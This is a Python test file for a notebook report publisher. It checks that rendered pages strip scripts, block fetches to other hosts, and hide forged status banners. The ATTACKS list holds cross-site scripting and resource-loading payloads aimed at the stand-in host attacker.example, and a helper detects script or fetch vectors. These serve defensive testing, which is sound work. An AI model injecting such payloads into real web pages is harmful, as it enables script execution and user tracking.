"""Pages: what they show, what they never let through, and that they fetch nothing."""

import base64
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from mlnb.publish.frames import read_report, render_report, viewer
from mlnb.publish.layout import STYLE, source_hash
from mlnb.publish.outputs import render_output, without_places
from mlnb.publish.page_cells import join_outputs
from mlnb.publish.pages import Facts, ShownArtifact, render
from mlnb.publish.prose import clean

ATTACKS = [
    "<script>attack()</script>",
    "</script><img src=x onerror=attack()>",
    "</style><script src=https://attacker.example/x.js></script>",
    '<img src="https://attacker.example/pixel.png">',
    '<img srcset="https://attacker.example/pixel.png 1x">',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    "<style>@import url(https://attacker.example/x.css)</style>",
    '<b style="background:url(https://attacker.example/x)">b</b>',
    '<iframe src="https://attacker.example/"></iframe>',
    '<object data="https://attacker.example/x.swf"></object>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/">',
    '<form action="https://attacker.example/"><input name=a><button>send</button></form>',
    '<svg><script>attack()</script><image href="https://attacker.example/x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></mglyph></table></mtext></math>",
    '<video poster="https://attacker.example/x" src="https://attacker.example/y"></video>',
    '<a href="javascript:attack()">a</a>',
    '<a href="data:text/html,<script>attack()</script>">a</a>',
    '<div id="made" class="banner ok">✓ Committed</div>',
    '<table background="https://attacker.example/x"><tr><td onclick=attack()>a</td></tr></table>',
]


class Elements(HTMLParser):
    "Every start tag of a document with its attributes."

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def violations(html):
    "What in a page could run a script or fetch something from another host."
    found = Elements(html).found
    bad = ["style"] * (sum(tag == "style" for tag, _ in found) - html.startswith("<!doctype html>"))
    for tag, attributes in found:
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            bad.append(tag)
        if (
            tag in ("script", "object", "embed", "base", "form", "iframe", "video", "audio", "link")
            and attributes.get("href") != "data:,"
        ):
            bad.append(tag)
        for name, value in attributes.items():
            is_link = (
                tag == "a"
                and name == "href"
                and re.match(r"(https?:|mailto:|#|[\w./-]+$|[\w./-]+#)", value or "")
            )
            if name.startswith("on") or (
                name in ("src", "srcset", "href", "data", "poster", "background", "action", "style")
                and not is_link
                and not (value or "").startswith("data:image/")
                and value != "data:,"
            ):
                bad.append((tag, name, value))
    return bad


def code(source, *outputs, tags=()):
    return {
        "cell_type": "code",
        "source": source,
        "outputs": list(outputs),
        "metadata": {"tags": list(tags)},
        "execution_count": 1,
    }


def text(source):
    return {"cell_type": "markdown", "source": source, "metadata": {}}


def shown(**data):
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {k.replace("_", "/", 1): v for k, v in data.items()},
    }


def page_of(*cells, **facts):
    return render({"cells": list(cells)}, Facts("fraud", "train", "committed", **facts))


def test_the_scan_sees_every_kind_of_attack_when_nothing_protects():
    harmless = {i for i, attack in enumerate(ATTACKS) if not violations(attack)}
    assert [ATTACKS[i] for i in harmless] == ['<div id="made" class="banner ok">✓ Committed</div>']


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_in_a_table_output_leaves_nothing_that_runs_or_fetches(attack):
    html = f"<table><tr><td>{attack}</td></tr></table>"
    page = page_of(text("# Title"), code("df", shown(text_html=html, text_plain="table")))
    assert violations(page) == []
    assert "attacker.example" not in page and "attack()" not in page


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_in_every_other_place_is_text_or_gone(attack):
    stream = {"output_type": "stream", "name": "stdout", "text": attack}
    error = {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]}
    description = ShownArtifact(attack, attack, 1)
    page = page_of(
        text(f"# {attack}\n> {attack}\n\n{attack}"),
        code(attack, stream, error, shown(text_plain=attack), shown(text_markdown=attack)),
        run=attack,
        parameters={attack: attack},
        metrics={attack: attack},
        inputs={attack: description},
        outputs={attack: description},
        sources={attack: attack},
        environment={attack: attack},
        note=attack,
    )
    assert violations(page) == []


def test_forged_state_from_an_output_cannot_look_like_the_page():
    page = page_of(
        text("# T"), code("x", shown(text_html='<div class="state ok banner" id="made">✓ Committed</div>'))
    )
    forged = [a for tag, a in Elements(page).found if tag == "div" and "banner" in (a.get("class") or "")]
    assert forged == []
    assert page.count('id="made"') == 1


def test_policy_forbids_everything_but_the_named_style_and_inline_images():
    page = page_of(text("# T"))
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)[1].replace(
        "&#39;", "'"
    )
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert rules == {
        "default-src": "'none'",
        "style-src": source_hash(STYLE),
        "img-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert re.search(r"<style>(.*?)</style>", page, re.S)[1] == STYLE
    assert page.index("Content-Security-Policy") < page.index("<title>")


def test_svg_output_becomes_an_image_and_loses_its_scripts():
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='attack()'><script>attack()</script></svg>"
    html = str(render_output(shown(**{"image_svg+xml": svg}), "curve"))
    assert violations(html) == [] and "attack" not in html
    data = re.search(r"base64,([^\"]+)", html)[1]
    assert base64.b64decode(data) == b'<svg xmlns="http://www.w3.org/2000/svg" />'


def test_output_with_only_a_script_falls_back_to_its_text():
    plotly = shown(
        text_html="<div id='p'></div><script>Plotly.newPlot()</script>", text_plain="Figure({...})"
    )
    assert "Figure({...})" in render_output(plotly)


def test_stream_with_colours_controls_and_progress_shows_what_a_terminal_would():
    stream = {
        "output_type": "stream",
        "name": "stdout",
        "text": "10%\r 50%\r100%\n\x1b[1;32mdone\x1b[0m\x07\x00",
    }
    html = render_output(stream)
    assert html.startswith("<pre>100%\n") and "done" in html and "\x1b" not in html and "\x07" not in html


def test_failing_cell_is_marked_open_and_only_that_one():
    error = {
        "output_type": "error",
        "ename": "ValueError",
        "evalue": "\x1b[31mno rows\x1b[0m",
        "traceback": ["\x1b[31mTraceback\x1b[0m"],
    }
    page = page_of(text("# T"), code("a = 1"), code("check()", error), code("never()"))
    assert page.count("✕ This cell failed") == 1 and page.count("<details open") == 1
    assert "ValueError: no rows" in page and "\x1b" not in page


def test_failing_cell_without_output_is_marked_by_its_position():
    page = page_of(text("# T"), code("a = 1"), code("die()"), failed_cell=3)
    before, after = page.split("✕ This cell failed")
    assert "die" in after and "die" not in before.split("<article>")[1]


def test_allowed_exception_is_no_failure():
    error = {"output_type": "error", "ename": "ValueError", "evalue": "shown on purpose", "traceback": []}
    page = page_of(text("# T"), code("1/0", error, tags=["raises-exception"]))
    assert "This cell failed" not in page and "shown on purpose" in page


def test_hide_code_leaves_all_code_out_and_keeps_outputs():
    stream = {"output_type": "stream", "name": "stdout", "text": "result"}
    hidden = page_of(text("# T"), code("#| report: hide-code\nsecret_name = 1"), code("other_name()", stream))
    assert "secret_name" not in hidden and "other_name" not in hidden and "result" in hidden
    assert "secret_name" in page_of(text("# T"), code("secret_name = 1"))


def test_hide_code_hides_the_code_of_a_failing_cell_too():
    error = {"output_type": "error", "ename": "ValueError", "evalue": "no", "traceback": []}
    page = page_of(text("# T"), code("#| report: hide-code\nx = 1"), code("secret_name()", error))
    assert "secret_name" not in page and "✕ This cell failed" in page


def test_cells_that_papermill_adds_are_left_out():
    banner = {
        "cell_type": "markdown",
        "source": "An Exception was encountered",
        "metadata": {"tags": ["papermill-error-cell-tag"]},
    }
    page = page_of(
        banner,
        text("# Own title"),
        code("days = 1", tags=["parameters"]),
        code("days = 5", tags=["injected-parameters"]),
    )
    assert "An Exception" not in page and "<h1>Own title</h1>" in page and "days = 5" not in clean(page)


def test_join_keeps_new_prose_and_refuses_other_code_cells():
    executed = {
        "cells": [
            text("# Old"),
            code("a"),
            code("days = 5", tags=["injected-parameters"]),
            code("# note"),
            code("b", shown(text_plain="B")),
        ]
    }
    edited = {
        "cells": [text("# New"), code("a"), text("between"), code("b"), code("# other note")],
        "metadata": {"x": 1},
    }
    joined = join_outputs(edited, executed)
    assert [c.get("outputs") for c in joined["cells"]] == [None, [], None, [shown(text_plain="B")], []]
    assert joined["metadata"] == {"x": 1} and edited["cells"][3]["outputs"] == []
    assert join_outputs({"cells": [text("# New"), code("a")]}, executed) is None


def test_same_notebook_gives_the_same_bytes():
    cells = [
        text("# T $x^2$\n\n$$y_1$$"),
        code("df", shown(text_html="<table class='dataframe'><tr><td>1</td></tr></table>")),
    ]
    assert page_of(*cells) == page_of(*cells)


def test_wide_table_and_long_output_stay_in_their_boxes():
    page = page_of(
        text("# T"), code("df", shown(text_html="<table class='dataframe'><tr><td>1</td></tr></table>"))
    )
    assert re.search(
        r'<div class="scroll" tabindex="0" role="region" aria-label="Table"><table class="dataframe">', page
    )
    flood = page_of(
        text("# T"), code("x", {"output_type": "stream", "name": "stdout", "text": "x" * 1_000_000})
    )
    assert len(flood) < 200_000 and "900,000 more characters are not shown" in flood


def test_page_says_what_it_is_about():
    description = ShownArtifact("ab" * 32, "dict", 2048)
    page = page_of(
        text("# Late labels\n> How late?"),
        run="20261123T1-aaaa",
        started_utc="2026-11-23T15:22:37+00:00",
        seconds=75,
        parameters={"days": 35},
        metrics={"auc": 0.91234, "auc_low": 0.9, "auc_high": 0.92},
        inputs={"rows": description},
        outputs={"model": description},
        sources={"freshness key": "cd" * 32},
    )
    for expected in (
        "✓ Committed",
        "Late labels",
        "How late?",
        "20261123T1-aaaa",
        "23 November 2026, 15:22 UTC",
        "1 min 15 s",
        "days",
        "0.9123",
        "0.9 – 0.92",
        "ab" * 32,
        "cd" * 32,
        "2 KiB",
        'lang="en"',
        "Skip to the content",
    ):
        assert expected in page, expected


def test_broken_report_files_are_shown_without_scripts():
    start = "<script>\n    var metric_" + "0" * 32 + " = "
    for html in (
        "",
        "<p>text",
        start,
        start + "{",
        start + "{}; steal()",
        start + "{};\n    var additional_graphs_metric_" + "0" * 32 + " = {};\n</script>steal()",
    ):
        assert read_report(html) is None
        page, needs_viewer = render_report(html, "Report", [], "assets")
        assert not needs_viewer and violations(page) == []


def test_viewer_names_its_own_scripts_and_nothing_else():
    html = viewer()
    policy = re.search(r'content="(default-src[^"]*)"', html)[1].replace("&#39;", "'")
    scripts = re.findall(r"<script>(.*?)</script>", html[html.index("<body>") :], re.S)
    assert len(scripts) == 2
    assert re.search(r"script-src ([^;]*)", policy)[1].split() == [source_hash(s) for s in scripts]
    assert "connect-src" not in policy and "default-src 'none'" in policy and "http" not in policy
    assert [a for tag, a in Elements(html).found if "src" in a or tag in ("link", "img", "iframe")] == []


def test_output_lists_of_lines_and_json_are_accepted():
    output = {
        "output_type": "execute_result",
        "data": {"text/plain": ["a\n", "b"], "application/json": {"a": 1}},
        "metadata": {},
        "execution_count": 1,
    }
    assert render_output(output) == "<pre>a\nb</pre>"
    only_json = {"output_type": "display_data", "data": {"application/json": {"a": 1}}, "metadata": {}}
    assert render_output(only_json) == '<pre>{\n "a": 1\n}</pre>'


PLACES = [
    ("/srv/data/payments", "."),
    ("in /srv/data/payments, line 3", "in ., line 3"),
    ("file:///srv/data/payments/nbs/a.ipynb", "file://./nbs/a.ipynb"),
    ("/mnt/store/objects/ab/cd", "…/objects/ab/cd"),
    ('"/srv/data/payments/x y.csv"', '"./x y.csv"'),
    ("/opt/conda/envs/a/lib/python3.12/site-packages/pandas/io/common.py", "pandas/io/common.py"),
    ("/usr/lib/python3/dist-packages/yaml/reader.py", "yaml/reader.py"),
    ("/Users/ada/Library/x, /home/ada", "~/Library/x, ~"),
    ("/var/folders/zz/abc123/T/tmpx/rows.csv", "…/tmpx/rows.csv"),
    ("/private/var/folders/zz/abc123/T/tmpx/rows.csv", "…/tmpx/rows.csv"),
    *(
        (same, same)
        for same in (
            "/srv/data/payments2/x",
            "/srv/data/payments.old/x",
            "a/srv/data/payments/x",
            "https://example.org/tmp/x",
            "3/4",
            "/ and /",
            "data:image/png;base64,aGk/home",
        )
    ),
]


@pytest.mark.parametrize("text,expected", PLACES)
def test_folder_in_a_text_is_shortened_and_anything_else_is_kept(text, expected):
    assert without_places(text, Path("/srv/data/payments"), Path("/mnt/store")) == expected


def test_long_text_of_slashes_is_searched_in_linear_time():
    text = "/a" * 50_000 + "+/+" * 50_000
    assert without_places(text, Path("/srv/data/payments"), Path("/mnt/store")) == text


def test_table_with_sentences_is_marked_as_text_and_one_of_numbers_is_not():
    sentence, number = "0.0% of the rows repeat an earlier one, 0.0% in the reference", "12,345.678"
    frames = [
        f"<table border='1' class='dataframe'><tr><td>{value}</td></tr></table>"
        for value in (sentence, number)
    ]
    found = [a["class"] for tag, a in Elements(str(clean("".join(frames)))).found if tag == "table"]
    assert found == ["dataframe text", "dataframe"]
